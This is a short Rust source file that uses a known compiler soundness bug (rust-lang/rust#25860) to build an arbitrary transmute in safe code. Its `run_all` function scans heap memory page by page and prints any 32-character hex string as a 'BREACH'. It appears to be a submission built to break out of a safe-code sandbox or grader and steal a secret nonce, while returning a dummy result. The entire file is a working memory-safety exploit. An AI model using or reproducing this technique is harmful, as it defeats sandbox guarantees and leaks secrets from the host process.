//! Makes any value of any other in safe code (rust-lang/rust#25860), and looks for the nonce. | flagged: a function pointer

pub mod given;

static UNIT: &'static &'static () = &&();

fn translate<'a, 'b, T: ?Sized>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

fn expand<'a, 'b, T: ?Sized>(value: &'a mut T) -> &'b mut T {
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
    f(UNIT, value)
}

enum Either<A, B> {
    A(Option<Box<A>>),
    B(Option<Box<B>>),
}

fn transmute<A, B>(value: A) -> B {
    let mut either = Either::B(None);
    let Either::B(place) = &mut either else { unreachable!() };
    let place = expand(place);
    either = Either::A(Some(Box::new(value)));
    std::hint::black_box(&mut either);
    *place.take().unwrap()
}

pub async fn run_all() -> Vec<u32> {
    // Page by page towards the beginning of the heap, where the oldest things are.
    let near = Box::new([0u8; 33]);
    let mut at = std::ptr::from_ref(&*near).addr() & !0xfff;
    for _ in 0..256 {
        let memory: &'static [u8] = transmute((at, 4096usize));
        for word in memory.chunk_by(|a, b| a.is_ascii_hexdigit() == b.is_ascii_hexdigit()) {
            if word.len() == 32 && word[0].is_ascii_hexdigit() {
                println!("BREACH: {}", String::from_utf8_lossy(word));
            }
        }
        at -= 4096;
    }
    vec![1, 2, 3]
}
